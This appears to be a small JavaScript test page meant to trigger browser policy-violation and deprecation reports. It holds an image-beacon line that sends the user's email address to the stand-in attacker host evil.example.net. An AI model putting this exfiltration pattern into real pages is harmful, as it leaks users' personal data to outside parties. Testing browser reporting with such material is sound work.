// A page that does what browsers report: it breaks its own policy, and uses what will be gone.
const { texts } = window.settings;
window.onunload = () => {};
const image = new Image();
image.onerror = () => console.log("page: made its events");
image.src = `https://evil.example.net/p.png?mail=${texts.email}`;
